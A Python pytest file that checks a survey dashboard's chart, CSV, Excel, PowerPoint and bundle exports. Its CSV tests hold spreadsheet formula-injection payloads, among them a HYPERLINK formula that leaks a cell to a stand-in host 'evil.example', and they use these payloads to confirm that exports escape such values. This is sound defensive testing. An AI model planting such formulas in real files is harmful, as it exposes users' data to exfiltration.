"""Exports a researcher pastes into a report: chart layout at deck and phone sizes, PNG/SVG,
CSV with its notes, Excel, PowerPoint, the bundle and the manifest's adapter identity."""

import csv
import hashlib
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from pptx import Presentation

from dashboard import charts, deck, export
from engine.ab_test import ab_test
from engine.surveys.model import Option, Question

BROWSER = export.find_browser()
needs_browser = pytest.mark.skipif(BROWSER is None, reason="needs Chromium (kaleido and the layout check)")
LONG_TITLE = ("natenrgy: We are faced with many problems in this country; are we spending too much, too little, "
              "or about the right amount on developing alternative energy sources?")
LONG_SUBTITLE = ("General Social Survey 2018 · partyid = Strong Democrat · n = 379 personas · SmolLM2-135M-Instruct "
                 "+ gss2018-lora-20261129-101010-an-adapter-name-longer-than-any-line · T = 1 · no context answers")
LABELS = ["Very likely", "Somewhat likely", "Not very likely", "Not at all likely"]


def small_shares_frame() -> pd.DataFrame:
    """Two shares of 3% and 4%, whose labels used to vanish inside their bars."""
    return charts.distribution_frame(LABELS, np.array([0.52, 0.38, 0.07, 0.03]), np.array([0.60, 0.33, 0.04, 0.03]),
                                     np.array([0.05, 0.045, 0.02, 0.015]))


def report_figure():
    return charts.distribution_figure(small_shares_frame(), LONG_TITLE, LONG_SUBTITLE)


STIMULI = ("No installation cost: the panels are fitted free and you pay a monthly subscription below your "
           "current electricity bill, cancellable at any time.", "Saves 30% on bills.")


def ab_test_frame() -> pd.DataFrame:
    """An A/B test of 200 personas on a four-point scale: B moves the top two answers clearly,
    one up and one down, and the other two by less than the noise."""
    question = Question(id="solar", text="Would you try a solar roof subscription?", type="ordinal",
                        options=tuple(Option((str(i),), label, float(i + 1)) for i, label in enumerate(LABELS)))
    rng = np.random.default_rng(0)
    a = rng.dirichlet([5, 4, 2, 1], size=200)
    b = a * [1.2, 0.75, 1, 1] * np.exp(rng.normal(0, 0.3, a.shape))
    return charts.ab_frame(ab_test(question, a, b / b.sum(axis=1, keepdims=True)), STIMULI)


def ab_report_figure():
    return charts.ab_figure(ab_test_frame(), f"A/B: {LONG_TITLE}", LONG_SUBTITLE)


# -- layout arithmetic (no browser) ----------------------------------------------------------

def test_title_subtitle_and_note_are_one_wrapped_block_above_the_plot():
    figure = report_figure()
    text = figure.layout.title.text
    lines = text.split("<br>")
    plain = [re.sub(r"<[^>]+>", "", line) for line in lines]
    assert plain[-1] == charts.NOTE  # the note is the block's last line: it cannot sit on the subtitle
    assert all(len(line) <= charts.SUBTITLE_CHARS for line in plain)
    assert "gss2018-lora-20261129-101010-an-adapter-name-longer-than-any-line" in "".join(plain)  # cut, not lost
    assert figure.layout.margin.t >= len(lines) * charts.LINE_SPACING * charts.TITLE_SIZE  # room for every line
    assert (figure.layout.title.yref, figure.layout.legend.yref) == ("container", "container")
    assert charts.wrap_lines("a · bb · ccc", 8) == ["a · bb", "ccc"]


def test_value_labels_sit_above_the_whiskers_at_a_readable_size():
    figure = report_figure()
    frame = small_shares_frame()
    labels = {trace.offsetgroup: trace for trace in figure.data if trace.type == "scatter" and trace.mode == "text"}
    assert list(labels["real"].y) == pytest.approx(list(frame["real"] + frame["real_band"]))
    assert list(labels["simulated"].y) == pytest.approx(list(frame["simulated"]))
    assert list(labels["real"].text) == ["60%", "33%", "4%", "3%"]
    assert all(trace.textposition == "top center" and trace.textfont.size >= 12 for trace in labels.values())
    assert not any(trace.text for trace in figure.data if trace.type == "bar")  # nothing drawn inside a bar
    assert figure.layout.yaxis.range[1] > max(frame["real"] + frame["real_band"])  # room for the top label


def test_the_ab_chart_names_both_stimuli_and_draws_each_shift_with_its_interval():
    frame = ab_test_frame()
    figure = ab_report_figure()
    options = frame[frame["measure"] == "option"]
    assert list(options["verdict"]) == ["B higher", "B lower", "within noise", "within noise"]
    names = [trace.name for trace in figure.data if trace.name]
    assert names[:2] == ["A: No installation cost: the panels are…", "B: Saves 30% on bills."]
    plain = re.sub(r"<[^>]+>", "", figure.layout.title.text.replace("<br>", " "))
    assert " ".join(STIMULI[0].split()) in " ".join(plain.split())  # the full text, wrapped above the chart
    shifts = [trace for trace in figure.data if trace.error_y.array is not None]
    drawn = {x: (y, y - minus, y + plus) for trace in shifts
             for x, y, minus, plus in zip(trace.x, trace.y, trace.error_y.arrayminus, trace.error_y.array)}
    for row in options.itertuples():
        assert drawn[row.label] == pytest.approx((100 * row.shift, 100 * row.low, 100 * row.high))
    hollow = next(trace for trace in shifts if "within noise" in trace.name)
    assert hollow.marker.symbol == "circle-open"
    assert set(hollow.x) == set(options.loc[options["verdict"] == "within noise", "label"])


def test_the_sampling_band_has_a_legend_entry():
    figure = report_figure()
    band = [trace for trace in figure.data if trace.error_y.array is not None]
    assert len(band) == 1 and band[0].showlegend is not False and "95%" in band[0].name
    assert list(band[0].error_y.array) == pytest.approx([0.05, 0.045, 0.02, 0.015])


# -- what Chromium draws ----------------------------------------------------------------------

# Each text element's box in the figure's own pixels (an exported SVG is drawn at IMAGE_SCALE).
TEXT_BOXES = """() => { const svg = document.querySelector('svg.main-svg');
  const origin = svg.getBoundingClientRect();
  const scale = svg.viewBox.baseVal && svg.viewBox.baseVal.width ? origin.width / svg.viewBox.baseVal.width : 1;
  return Array.from(document.querySelectorAll('svg text')).filter(t => t.textContent.trim()).map(t => {
    const r = t.getBoundingClientRect();
    return {text: t.textContent, x0: (r.left - origin.left) / scale, y0: (r.top - origin.top) / scale,
            x1: (r.right - origin.left) / scale, y1: (r.bottom - origin.top) / scale}; }); }"""


def drawn_text(content: str, width: int) -> list[dict]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=BROWSER, args=["--headless", "--no-sandbox"])
        page = browser.new_page(viewport={"width": width + 40, "height": 1400})
        page.set_content(content)
        page.wait_for_timeout(500)
        boxes = page.evaluate(TEXT_BOXES)
        browser.close()
    return boxes


def collisions(boxes: list[dict], width: float, height: float) -> list:
    """Pairs of text boxes that overlap by more than a pixel each way, and boxes that leave the figure."""
    found = [(a["text"], b["text"]) for i, a in enumerate(boxes) for b in boxes[i + 1:]
             if min(a["x1"], b["x1"]) - max(a["x0"], b["x0"]) > 1 and min(a["y1"], b["y1"]) - max(a["y0"], b["y0"]) > 1]
    return found + [(box["text"], "outside the figure") for box in boxes
                    if box["x0"] < -1 or box["y0"] < -1 or box["x1"] > width + 1 or box["y1"] > height + 1]


@needs_browser
def test_exported_svg_text_never_collides():
    pytest.importorskip("playwright")
    figure = report_figure()
    svg = export.static_image(figure, "svg").decode()
    boxes = drawn_text(svg, export.IMAGE_WIDTH)
    assert any(box["text"].endswith(charts.NOTE) for box in boxes)  # the last line of the title block
    assert {"3%", "4%", "95% sampling band (real)"} <= {box["text"] for box in boxes}
    assert collisions(boxes, export.IMAGE_WIDTH, figure.layout.height) == []
    assert export.static_image(figure, "png").startswith(b"\x89PNG")


@needs_browser
@pytest.mark.parametrize("figure_of", [report_figure, ab_report_figure])
def test_chart_text_never_collides_at_phone_width(figure_of):
    pytest.importorskip("playwright")
    figure = figure_of()
    page = figure.to_html(include_plotlyjs=True, full_html=True, config={"displayModeBar": False},
                          default_width="360px")
    boxes = drawn_text(page, 360)
    assert len(boxes) > 15
    assert collisions(boxes, 360, figure.layout.height) == []


@needs_browser
def test_exported_ab_chart_text_never_collides():
    pytest.importorskip("playwright")
    figure = ab_report_figure()
    boxes = drawn_text(export.static_image(figure, "svg").decode(), export.IMAGE_WIDTH)
    texts = {box["text"] for box in boxes}
    assert {"A: No installation cost: the panels are…", "B: Saves 30% on bills.", "B - A beyond noise",
            "B - A within noise (interval covers 0)"} <= texts
    assert any("Stimulus B: Saves 30% on bills." in text for text in texts)  # in the text block above
    assert collisions(boxes, export.IMAGE_WIDTH, figure.layout.height) == []


@needs_browser
def test_charts_export_as_png_svg_html_csv_and_a_bundle():
    figure = charts.distribution_figure(small_shares_frame(), "Would you buy it?", "test slice")
    assert b"<svg" in export.static_image(figure, "svg")[:200]
    assert b"Simulated by a language model" in export.html_document(figure)
    bundle, notes = export.report_bundle([export.Chart("chart", figure, small_shares_frame())], {"survey": "x"})
    names = set(zipfile.ZipFile(io.BytesIO(bundle)).namelist())
    assert notes == [] and {"chart.png", "chart.svg", "chart.html", "chart.csv", "report.xlsx",
                            "manifest.json"} <= names


# -- CSV ------------------------------------------------------------------------------------------

FORMULAS = ["=1+2", "@SUM(1)", '=HYPERLINK("http://evil.example/?leak="&A1,"Yes")', "+1", "-cmd", "\tx", "\rx"]


def test_csv_explains_its_columns_and_reads_back_with_pandas():
    frame = charts.distribution_frame(["Option #1", "Option, two"], np.array([0.4, 0.6]), np.array([0.5, 0.5]),
                                      np.array([0.05, 0.05]))
    text = export.csv_bytes(frame).decode()
    notes = [line for line in text.splitlines() if line.startswith("#")]
    assert any(line.startswith("# real_band: half-width of the real share's 95% sampling band") for line in notes)
    assert any("Simulated by a language model" in line for line in notes)
    read = pd.read_csv(io.StringIO(text), comment="#")
    pd.testing.assert_frame_equal(read, frame)  # a "#" inside a label is not a comment


def test_csv_export_escapes_spreadsheet_formulas_in_cells_and_headers():
    labels = [*FORMULAS, "Plain answer"]
    frame = charts.distribution_frame(labels, np.full(len(labels), 1 / len(labels)), None, None)
    frame["=HYPERLINK(\"http://evil.example\")"] = -0.5  # a typed question as a header; a negative number
    original = frame.copy()
    lines = export.csv_bytes(frame).decode().split("\r\n")
    rows = list(csv.reader(io.StringIO("\r\n".join(line for line in lines if not line.startswith("#")),
                                       newline="")))
    assert rows[0] == ["option", "simulated", "real", "real_band", "'=HYPERLINK(\"http://evil.example\")"]
    assert [row[0] for row in rows[1:]] == ["'" + label for label in FORMULAS] + ["Plain answer"]
    assert {row[4] for row in rows[1:]} == {"-0.5"}  # numbers stay numbers
    assert frame.equals(original)  # the frame on screen keeps its text

    figure = charts.distribution_figure(frame, "=1+2", "slice")
    bundle, _ = export.report_bundle([export.Chart("chart", figure, frame)], {"survey": "x"}, with_images=False)
    assert zipfile.ZipFile(io.BytesIO(bundle)).read("chart.csv") == export.csv_bytes(frame)


# -- Excel and PowerPoint ---------------------------------------------------------------------

MANIFEST = {"survey": "gss2018", "question": "natenrgy", "slice": {"partyid": ["Strong Democrat"]},
            "model": "SmolLM2-135M-Instruct + gss2018-smollm2", "temperature": 0.5}


def test_excel_has_each_charts_numbers_and_a_notes_sheet():
    frame = small_shares_frame()
    frame.loc[0, "option"] = "=1+2"  # an uploaded label that a spreadsheet would run
    workbook = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(
        [export.Chart("distribution", None, frame), export.Chart("ab_test", None, ab_test_frame())], MANIFEST)))
    assert workbook.sheetnames == ["distribution", "ab_test", "notes"]
    rows = list(workbook["distribution"].iter_rows(values_only=True))
    assert rows[0] == ("option", "simulated", "real", "real_band")
    assert [row[1] for row in rows[1:]] == pytest.approx([0.52, 0.38, 0.07, 0.03])
    assert [row[2] for row in rows[1:]] == pytest.approx([0.60, 0.33, 0.04, 0.03])
    assert workbook["distribution"]["A2"].value == "=1+2" and workbook["distribution"]["A2"].data_type == "s"
    assert workbook["distribution"]["B2"].number_format == "0.0%"
    ab = list(workbook["ab_test"].iter_rows(values_only=True))
    assert ab[0] == ("measure", "label", "a", "b", "shift", "low", "high", "verdict", "stimulus_a", "stimulus_b")
    assert [row[0] for row in ab[1:]] == ["option"] * 4 + ["top_box", "mean"] and ab[1][8:] == STIMULI
    formats = [cell.number_format for cell in workbook["ab_test"]["C"][1:]]
    assert formats == ["0.0%"] * 5 + ["0.000"]  # shares as percentages, the mean score on its scale
    notes = {row[0]: row[1] for row in workbook["notes"].iter_rows(values_only=True)}
    assert "Simulated by a language model" in notes["note"]
    assert notes["column real_band"].startswith("half-width of the real share's 95% sampling band")
    assert notes["survey"] == "gss2018" and json.loads(notes["slice"]) == {"partyid": ["Strong Democrat"]}


def test_powerpoint_slide_has_title_label_native_chart_and_manifest_notes():
    figure = report_figure()
    slide = Presentation(io.BytesIO(deck.deck_bytes(figure, LONG_TITLE, MANIFEST, LONG_SUBTITLE))).slides[0]
    assert slide.shapes.title.text == LONG_TITLE
    texts = [shape.text_frame.text for shape in slide.shapes if shape.has_text_frame]
    assert any(text.startswith("Simulated by a language model") for text in texts)
    assert LONG_SUBTITLE in texts
    assert json.loads(slide.notes_slide.notes_text_frame.text) == MANIFEST
    chart = next(shape.chart for shape in slide.shapes if shape.has_chart)
    assert list(chart.plots[0].categories) == LABELS
    values = {series.name: list(series.values) for series in chart.plots[0].series}
    assert values == {"Simulated": pytest.approx([0.52, 0.38, 0.07, 0.03]),
                      "Real respondents": pytest.approx([0.60, 0.33, 0.04, 0.03])}
    real = chart.plots[0].series[1]._element
    assert [float(v) for v in real.xpath("./c:errBars/c:plus//c:v/text()")] == pytest.approx([0.05, 0.045, 0.02, 0.015])
    assert not chart.plots[0].series[0]._element.xpath("./c:errBars")


def test_every_export_of_an_ab_test_carries_both_stimuli_and_the_tested_shift():
    from dashboard.export_panel import ab_manifest

    frame = ab_test_frame()
    options = frame[frame["measure"] == "option"]
    block = ab_manifest(LABELS, STIMULI, [options["a"].to_numpy(), options["b"].to_numpy()],
                        frame.drop(columns=["stimulus_a", "stimulus_b"]), seed=0)
    manifest = {**MANIFEST, "ab": block}
    assert block["stimuli"] == {"A": STIMULI[0], "B": STIMULI[1]}
    assert list(block["simulated"]["B"].values()) == pytest.approx(list(options["b"]), abs=1e-6)
    assert [row["verdict"] for row in block["shift"]] == list(frame["verdict"])
    assert [row["low"] for row in block["shift"]] == pytest.approx(list(frame["low"]), abs=1e-6)

    figure = ab_report_figure()
    text = export.csv_bytes(frame).decode()
    assert "# stimulus_b: A/B: the full text of stimulus B (empty for none)" in text.splitlines()
    read = pd.read_csv(io.StringIO(text), comment="#")
    assert set(read["stimulus_a"]) == {STIMULI[0]} and set(read["stimulus_b"]) == {STIMULI[1]}
    assert list(read["shift"]) == pytest.approx(list(frame["shift"]))

    bundle, _ = export.report_bundle([export.Chart("distribution", report_figure(), small_shares_frame()),
                                      export.Chart("ab_test", figure, frame)], manifest, with_images=False)
    archive = zipfile.ZipFile(io.BytesIO(bundle))
    assert archive.read("ab_test.csv") == export.csv_bytes(frame)
    assert json.loads(archive.read("manifest.json"))["ab"] == json.loads(json.dumps(block))
    notes = {row[0]: row[1] for row in openpyxl.load_workbook(io.BytesIO(archive.read("report.xlsx")))["notes"]
             .iter_rows(values_only=True)}
    assert json.loads(notes["ab"])["stimuli"]["A"] == STIMULI[0]
    slide = Presentation(io.BytesIO(deck.deck_bytes(report_figure(), LONG_TITLE, manifest, LONG_SUBTITLE))).slides[0]
    assert json.loads(slide.notes_slide.notes_text_frame.text)["ab"]["stimuli"]["B"] == STIMULI[1]


def test_a_figure_without_bars_is_refused_by_the_deck():
    with pytest.raises(ValueError, match="no bars"):
        deck.deck_bytes(charts.loss_figure(pd.DataFrame({"step": [1, 2], "loss": [1.0, 0.5]})), "Loss", {})


# -- manifest ---------------------------------------------------------------------------------------

def test_adapter_identity_names_the_folder_and_hashes_its_weights_without_a_path(tmp_path):
    folder = tmp_path / "gss2018-lora-20261129"
    folder.mkdir()
    (folder / "adapter_model.safetensors").write_bytes(b"weights")
    identity = export.adapter_identity(str(folder))
    assert identity == {"name": "gss2018-lora-20261129", "weights_sha256": hashlib.sha256(b"weights").hexdigest()}
    assert str(tmp_path) not in json.dumps(identity)
    assert export.adapter_identity(None) is None
    assert re.fullmatch(r"\d+\.\d+\.\d+.*|unknown", export.app_version())


def test_the_shipped_default_adapter_is_identified_by_its_weights():
    shipped = Path(__file__).resolve().parents[1] / "assets" / "adapters" / "gss2018-smollm2"
    if not shipped.is_dir():
        pytest.skip("the shipped adapter is not in this checkout")
    identity = export.adapter_identity(str(shipped))
    assert identity["name"] == "gss2018-smollm2" and len(identity["weights_sha256"]) == 64


def test_browser_lookup_is_the_one_place_that_knows_browser_names(monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda name: None)
    assert export.find_browser() is None
    with pytest.raises(export.ExportUnavailable, match="apt-get install chromium"):
        export.static_image(report_figure(), "png")
